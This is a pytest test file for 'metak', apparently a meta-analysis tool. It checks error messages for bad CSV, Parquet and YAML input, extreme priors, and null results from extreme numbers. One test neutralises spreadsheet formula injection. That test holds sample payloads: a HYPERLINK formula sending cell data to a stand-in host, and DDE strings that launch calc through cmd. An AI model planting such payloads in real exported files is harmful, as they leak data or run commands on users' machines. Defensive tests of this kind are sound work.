"""Bad input gets metak's own clear error (reliability probe 2026-12: F14, F15, F16, F17, F23
and two small defects): the file, the column or key and the row or line, exit 1 from the CLI,
no traceback, nothing written; and extreme numbers say why a result is null."""

from __future__ import annotations

import csv
import math
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

import metak
from metak.cli import main
from metak.errors import MetakError

ROOT = Path(__file__).resolve().parents[1]


def run_cli(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def refused(r, out: Path, *needles):
    """exit 1, an error line with every needle, no traceback, nothing written to out"""
    text = r.output
    assert r.exit_code == 1, text
    assert "Traceback" not in text, text
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    for n in needles:
        assert n in text, (n, text)
    assert not out.exists()


# --------------------------------------------------------------------------- F14: batch input

def test_batch_empty_csv_is_an_error_naming_the_file(tmp_path):
    src = tmp_path / "empty.csv"
    src.write_bytes(b"")
    out = tmp_path / "o"
    refused(run_cli("batch", src, "--out", out), out, "error:", "empty.csv", "empty")


@pytest.mark.parametrize("name,data", [
    ("binary.csv", bytes(range(256)) * 4),
    ("utf16.csv", "meta_id,yi,vi\na,0.1,0.01\na,0.2,0.02\n".encode("utf-16")),
    ("latin1.csv", "meta_id,yi,vi\nMüller,0.1,0.01\nMüller,0.2,0.02\n".encode("latin-1")),
])
def test_batch_non_utf8_csv_is_an_error_naming_the_file(tmp_path, name, data):
    src = tmp_path / name
    src.write_bytes(data)
    out = tmp_path / "o"
    refused(run_cli("batch", src, "--out", out), out, "error:", name, "UTF-8")


def test_batch_non_parquet_file_is_an_error_naming_the_file(tmp_path):
    src = tmp_path / "fake.parquet"
    src.write_text("meta_id,yi,vi\na,0.1,0.01\n")
    out = tmp_path / "o"
    refused(run_cli("batch", src, "--out", out), out, "error:", "fake.parquet", "Parquet")


@pytest.fixture()
def small_csv(tmp_path):
    src = tmp_path / "t.csv"
    src.write_text("meta_id,yi,vi\na,0.1,0.01\na,0.2,0.02\nb,0.3,0.05\nb,-0.1,0.04\n")
    return src


@pytest.mark.parametrize("method", ["MH", "PETO", "mh"])
def test_batch_refuses_methods_that_need_2x2_tables(small_csv, tmp_path, method):
    out = tmp_path / "o"
    refused(run_cli("batch", small_csv, "--out", out, "--method", method), out, "error:", method.upper(), "2x2",
            "REML")


def test_batch_refuses_an_unknown_measure_naming_the_allowed_ones(small_csv, tmp_path):
    out = tmp_path / "o"
    refused(run_cli("batch", small_csv, "--out", out, "--measure", "ORR"), out, "error:", "ORR",
            "OR, RR, RD, MD, SMD")
    arms = tmp_path / "arms.csv"
    arms.write_text("meta_id,ai,n1i,ci,n2i\na,3,20,5,20\na,4,30,8,30\n")
    refused(run_cli("batch", arms, "--out", out, "--measure", "ORR"), out, "error:", "ORR")
    from metak.scale.batch import run_batch

    with pytest.raises(MetakError, match="ORR"):
        run_batch(arms, measure="ORR")
    # a lower-case measure is the measure
    t = run_batch(arms, measure="or")
    assert t["error"].tolist() == [""] and t["k"].tolist() == [2]


def test_batch_nan_and_na_meta_ids_are_ids_of_their_own(tmp_path):
    from metak.scale.batch import run_batch

    src = tmp_path / "ids.csv"
    src.write_text("meta_id,yi,vi\nnan,0.1,0.01\nnan,0.2,0.02\nNA,0.5,0.1\nNA,0.6,0.1\nNULL,0.3,0.1\n"
                   "None,0.1,0.2\nnan,0.15,0.03\n")
    t = run_batch(src)
    assert t["meta_id"].tolist() == ["nan", "NA", "NULL", "None"]
    assert t["k"].tolist() == [3, 2, 1, 1] and (t["error"] == "").all()
    r = metak.fit([0.1, 0.2, 0.15], [0.01, 0.02, 0.03])
    assert t["estimate"].iloc[0] == r.estimate


def test_batch_empty_meta_ids_are_not_pooled(tmp_path):
    from metak.scale.batch import run_batch

    src = tmp_path / "e.csv"
    src.write_text("meta_id,yi,vi\n,0.1,0.01\n,0.2,0.02\nnan,0.5,0.1\nnan,0.6,0.1\nb,0.3,0.05\n  ,0.4,0.1\n")
    t = run_batch(src)
    by = {m: row for m, row in zip(t["meta_id"], t.itertuples())}
    assert by["nan"].k == 2 and by["nan"].error == "" and by["b"].error == ""
    empty = t[t["meta_id"].str.strip() == ""]
    assert len(empty) == 1 and (empty["error"].iloc[0].startswith("row 1: meta_id is empty"))
    assert math.isnan(empty["estimate"].iloc[0])
    out = tmp_path / "o"
    r = run_cli("batch", src, "--out", out)
    assert r.exit_code == 0 and "1 failed" in r.output and "meta_id is empty" in r.output, r.output


def test_batch_parquet_null_meta_ids_are_not_pooled(tmp_path):
    from metak.scale.batch import run_batch

    src = tmp_path / "n.parquet"
    pd.DataFrame({"meta_id": [None, None, "a", "a"], "yi": [0.1, 0.2, 0.3, 0.4],
                  "vi": [0.1, 0.1, 0.1, 0.1]}).to_parquet(src)
    t = run_batch(src)
    assert t["meta_id"].tolist() == ["", "a"]
    assert "row 1: meta_id is empty" in t["error"].iloc[0] and t["error"].iloc[1] == ""


def skewed(big, small):
    ids = np.concatenate([np.full(big, "big", dtype=object), np.array([f"s{i}" for i in range(small)], dtype=object)])
    rng = np.random.default_rng(5)
    vi = rng.uniform(0.01, 0.5, ids.size)
    yi = rng.normal(0.2, np.sqrt(vi + 0.05))
    return pd.DataFrame({"meta_id": ids, "yi": yi, "vi": vi})


def test_batch_memory_is_linear_in_a_skewed_table(tmp_path):
    """One meta-analysis of 3,000 rows beside 3,000 one-row ones: padding every one to the
    largest k took (3,001 x 3,000) arrays, hundreds of MB; bucketing by k takes a few MB."""
    import tracemalloc

    from metak.scale.batch import run_batch

    src = tmp_path / "skew.csv"
    skewed(3000, 3000).to_csv(src, index=False)
    tracemalloc.start()
    try:
        t = run_batch(src, method="REML")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(t) == 3001 and (t["error"] == "").all()
    assert peak < 40e6, f"peak {peak / 1e6:.0f} MB"


@pytest.mark.parametrize("method,test", [("REML", "hksj"), ("DL", "z"), ("PM", "z")])
def test_batch_of_mixed_k_equals_fit_exactly_at_any_partition(tmp_path, method, test):
    from metak.scale.batch import run_batch

    rng = np.random.default_rng(11)
    rows = []
    for j, k in enumerate([1, 2, 3, 40, 7, 2, 120, 5, 1, 9, 33, 3, 17, 2, 64, 6]):
        for _ in range(k):
            v = float(rng.uniform(0.01, 0.4))
            rows.append((f"m{j}", float(rng.normal(0.1, math.sqrt(v + 0.1))), v))
    df = pd.DataFrame(rows, columns=["meta_id", "yi", "vi"])
    src = tmp_path / "mix.csv"
    df.to_csv(src, index=False, float_format="%.17g")
    df = pd.read_csv(src)
    tables = [run_batch(src, method=method, test=test, partition=p) for p in (1, 3, 10_000)]
    for t in tables[1:]:
        pd.testing.assert_frame_equal(t, tables[0], check_exact=True)
    t = tables[0]
    assert t["meta_id"].tolist() == list(dict.fromkeys(df["meta_id"]))
    for mid, g in df.groupby("meta_id", sort=False):
        row = t[t["meta_id"] == mid].iloc[0]
        r = metak.fit(g["yi"].to_numpy(), g["vi"].to_numpy(), method=method, test=test)
        for c in ("estimate", "se", "ci_lower", "ci_upper", "tau2", "q"):
            want = getattr(r, c)
            if want is None:
                assert np.isnan(row[c])
            elif len(g) == 1:
                assert row[c] == pytest.approx(want, rel=1e-14)
            else:
                assert row[c] == want, (mid, c)


# --------------------------------------------------------------------------- F15: CSV injection

def test_batch_csv_text_cells_cannot_start_a_formula(tmp_path):
    ids = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR", "-1", "plain", "-0.5e3"]
    rows = []
    for i, m in enumerate(ids):
        rows += [(m, -0.3 - i, 0.01), (m, -0.2 - i, 0.02)]
    src = tmp_path / "f.csv"
    pd.DataFrame(rows, columns=["meta_id", "yi", "vi"]).to_csv(src, index=False, quoting=csv.QUOTE_NONNUMERIC)
    out = tmp_path / "o"
    r = run_cli("batch", src, "--out", out)
    assert r.exit_code == 0, r.output
    c = pd.read_csv(out / "results.csv", dtype={"meta_id": str}, keep_default_na=False)
    got = c["meta_id"].tolist()
    assert got[:6] == ["'" + m for m in ids[:6]]
    assert got[6:] == ["-1", "plain", "-0.5e3"]  # numbers are not formulas
    assert (c["estimate"].astype(float) < 0).all()  # negative numbers stay numbers
    text = (out / "results.csv").read_text()
    assert ",'" not in text and ",-0." in text  # no number cell was prefixed
    p = pd.read_parquet(out / "results.parquet")
    assert p["meta_id"].tolist() == ids  # the typed table keeps the text as it is


# --------------------------------------------------------------------------- F16: extreme priors

def spec_with_bayes(tmp_path, block: str) -> Path:
    text = (ROOT / "analyses" / "substance_use.yaml").read_text()
    text = text.replace("trials: ../trials", f"trials: {ROOT / 'trials'}")
    old = "        tau: {dist: half_normal, sigma: 0.5}\n"
    assert old in text
    lines = text.splitlines(keepends=True)
    at = lines.index(old)
    path = tmp_path / "s.yaml"
    path.write_text(text.replace(old, block, 1))
    return path, at + 1


@pytest.mark.parametrize("block,key,message", [
    ("        tau: {dist: half_normal, sigma: 1.0e+300}\n", "prior.tau.sigma", "more than 1e+12"),
    ("        tau: {dist: half_normal, sigma: 1.0e-300}\n", "prior.tau.sigma", "less than 1e-12"),
    ("        tau2: {dist: log_normal, mu: 1.0e+12, sigma: 1}\n", "prior.tau2.mu", "log"),
    ("        tau: {dist: exponential, lam: 1.0e-300}\n", "prior.tau.lam", "less than 1e-12"),
])
def test_extreme_tau_priors_are_refused_at_their_line(tmp_path, block, key, message):
    spec, line = spec_with_bayes(tmp_path, block)
    out = tmp_path / "o"
    r = run_cli("analyze", spec, "--no-figures", "--out", out)
    refused(r, out, f"s.yaml:{line}:", key, message)


@pytest.mark.parametrize("mu_line,key,message", [
    ("        mu: {dist: normal, mu: 1.0e+300, sigma: 1}\n", "prior.mu.mu", "more than 1e+12"),
    ("        mu: {dist: normal, mu: 0, sigma: 1.0e-300}\n", "prior.mu.sigma", "less than 1e-12"),
    ("        mu: {dist: student_t, nu: 3, mu: 0, sigma: 1.0e+300}\n", "prior.mu.sigma", "more than 1e+12"),
])
def test_extreme_mu_priors_are_refused_at_their_line(tmp_path, mu_line, key, message):
    text = (ROOT / "analyses" / "substance_use.yaml").read_text().replace("trials: ../trials",
                                                                            f"trials: {ROOT / 'trials'}")
    old = "        mu: {dist: normal, mu: 0, sigma: 10}\n"
    line = text.splitlines(keepends=True).index(old) + 1
    spec = tmp_path / "s.yaml"
    spec.write_text(text.replace(old, mu_line, 1))
    out = tmp_path / "o"
    refused(run_cli("analyze", spec, "--no-figures", "--out", out), out, f"s.yaml:{line}:", key, message)


MCMC_SIZES = [
    ("      engine: mcmc\n      draws: 1000000000000\n      chains: 1000\n", "draws", "implausibly large"),
    ("      engine: mcmc\n      chains: 1000\n", "chains", "implausibly large"),
    ("      engine: mcmc\n      tune: 1000000000000\n", "tune", "implausibly large"),
    ("      engine: mcmc\n      draws: 1000000\n      chains: 100\n", "draws", "draws x chains"),
]


def spec_with_extra(tmp_path, extra):
    text = (ROOT / "analyses" / "substance_use.yaml").read_text().replace("trials: ../trials",
                                                                            f"trials: {ROOT / 'trials'}")
    anchor = "      seed: 20240601\n"
    assert anchor in text
    line = text.splitlines(keepends=True).index(anchor) + 2
    spec = tmp_path / "s.yaml"
    spec.write_text(text.replace(anchor, anchor + extra, 1))
    return spec, line


@pytest.mark.parametrize("extra,key,message", MCMC_SIZES)
def test_implausible_mcmc_sizes_are_refused_by_the_spec_checker(tmp_path, extra, key, message):
    from metak.errors import InvalidSpec
    from metak.spec import load_spec

    spec, _ = spec_with_extra(tmp_path, extra)
    with pytest.raises(InvalidSpec) as e:  # checked, never sampled
        load_spec(spec)
    assert "s.yaml:" in str(e.value) and f"bayes.{key}:" in str(e.value) and message in str(e.value), str(e.value)


def test_implausible_mcmc_draws_are_refused_by_analyze_at_their_line(tmp_path):
    spec, line = spec_with_extra(tmp_path, MCMC_SIZES[0][0])
    out = tmp_path / "o"
    refused(run_cli("analyze", spec, "--no-figures", "--out", out), out, f"s.yaml:{line + 1}:", "bayes.draws",
            "implausibly large")


def test_prior_bounds_in_the_parser():
    from metak.bayes.spec import parse_bayes_spec
    from metak.errors import SpecValueError

    ok = parse_bayes_spec({"prior": {"tau": {"dist": "half_normal", "sigma": 1e12},
                                     "mu": {"dist": "normal", "mu": -1e12, "sigma": 1e-12}}},
                          measure="SMD", outcome_type="continuous")
    assert ok.tau_prior.sigma == 1e12 and ok.mu_prior.sigma == 1e-12
    for block, path in [({"prior": {"tau": {"dist": "half_cauchy", "beta": 1e13}}}, ("prior", "tau", "beta")),
                        ({"thresholds": [1e300]}, ("thresholds", 0)),
                        ({"prior": {"tau2": {"dist": "log_t", "mu": -500, "sigma": 1}}}, ("prior", "tau2", "mu")),
                        ({"prior": {"tau": {"dist": "uniform", "upper": 1e300}}}, ("prior", "tau", "upper"))]:
        with pytest.raises(SpecValueError) as e:
            parse_bayes_spec(block, measure="SMD", outcome_type="continuous")
        assert e.value.path == path


def test_batch_bayes_option_refuses_extreme_priors(small_csv, tmp_path):
    out = tmp_path / "o"
    r = run_cli("batch", small_csv, "--out", out, "--bayes", "{prior: {tau: {dist: half_normal, sigma: 1.0e+300}}}")
    refused(r, out, "error:", "--bayes prior.tau.sigma", "more than 1e+12")


# --------------------------------------------------------------------------- F17: null results say why

EXTREME = {
    "tiny_vi": ([0.1, 0.2, 0.3], [1e-300, 0.1, 0.2]),
    "subnormal_vi": ([0.1, 0.2, 0.3], [5e-324, 1e-320, 0.1]),
    "huge_yi": ([1e300, 1e300, -1e300], [0.1, 0.2, 0.3]),
    "yi_1e154": ([1e154, -1e154, 1e154], [0.1, 0.2, 0.3]),
    "outlier_1e150": ([0.1, 0.2, 0.15, 1e150], [0.1, 0.2, 0.1, 0.1]),
}
METHODS = ["FE", "DL", "REML", "ML", "PM", "SJ", "HE", "EB"]


@pytest.mark.parametrize("case", sorted(EXTREME))
@pytest.mark.parametrize("test", ["z", "hksj"])
def test_a_null_result_says_why_and_numpy_stays_quiet(case, test):
    yi, vi = EXTREME[case]
    nulls = 0
    for method in METHODS:
        with warnings.catch_warnings():
            warnings.simplefilter("error", RuntimeWarning)
            r = metak.fit(yi, vi, method=method, test=test)
        d = r.to_dict()
        if any(d[c] is None for c in ("estimate", "se", "ci_lower", "ci_upper")):
            nulls += 1
            why = " ".join(r.warnings)
            assert "double precision" in why and method in why, (method, r.warnings)
    if case in ("tiny_vi", "subnormal_vi", "huge_yi"):
        assert nulls  # the probe's cases: the inputs that gave nulls still do, now with a reason


def test_ordinary_fits_have_no_new_warnings():
    yi, vi = [0.1, 0.3, -0.2, 0.5, 0.25], [0.04, 0.05, 0.1, 0.02, 0.03]
    for method in METHODS:
        for test in ("z", "hksj"):
            r = metak.fit(yi, vi, method=method, test=test)
            assert not any("double precision" in w for w in r.warnings)


def test_fit_batch_stays_quiet_on_extreme_rows():
    Y = np.array([[1e300, 1e300, -1e300], [0.1, 0.2, 0.3]])
    V = np.array([[0.1, 0.2, 0.3], [0.01, 0.02, 0.03]])
    with warnings.catch_warnings():
        warnings.simplefilter("error", RuntimeWarning)
        b = metak.fit_batch(Y, V, method="REML")
    assert b.estimate[1] == metak.fit(Y[1], V[1], method="REML").estimate


# --------------------------------------------------------------------------- F23 and escalc: API types

@pytest.mark.parametrize("call", [
    lambda: metak.load_trials(None),
    lambda: metak.load_trials(5),
    lambda: metak.load_trials([ROOT / "trials", 5]),
    lambda: metak.load_trials(str(ROOT / "trials"), base=5),
    lambda: metak.load_trials("trials/", base=5),
])
def test_load_trials_wrong_types_are_metak_errors(call):
    with pytest.raises(MetakError, match="load_trials"):
        call()


def test_load_trials_still_loads():
    assert metak.load_trials("trials", base=ROOT) and metak.load_trials([ROOT / "trials"])


@pytest.mark.parametrize("shape", [(2, 2, 2), (1, 1, 1, 3)])
def test_fit_batch_with_arrays_of_more_than_two_dimensions(shape):
    with pytest.raises(MetakError, match="2-D"):
        metak.fit_batch(np.zeros(shape), np.ones(shape))


def test_escalc_text_cell_names_the_column_and_the_row():
    df = pd.DataFrame({"tpos": [4, 6, "NR"], "tneg": [119, 300, 20], "cpos": [11, 29, 3], "cneg": [128, 274, 30]},
                      index=["a", "b", "c"])
    with pytest.raises(MetakError) as e:
        metak.escalc(df, "RR", ai="tpos", bi="tneg", ci="cpos", di="cneg")
    msg = str(e.value)
    assert "'tpos'" in msg and "row 3" in msg and "'c'" in msg and "'NR'" in msg
    with pytest.raises(MetakError, match=r"ai.*value 2.*'x'"):
        metak.escalc(df.iloc[:2], "RR", ai=[4, "x"], bi="tneg", ci="cpos", di="cneg")
    # numbers and empty cells as before
    df2 = pd.DataFrame({"tpos": [4, None], "tneg": [119, 300], "cpos": [11, 29], "cneg": [128, 274]})
    out = metak.escalc(df2, "RR", ai="tpos", bi="tneg", ci="cpos", di="cneg")
    assert round(out["yi"][0], 4) == -0.8893 and np.isnan(out["yi"][1])
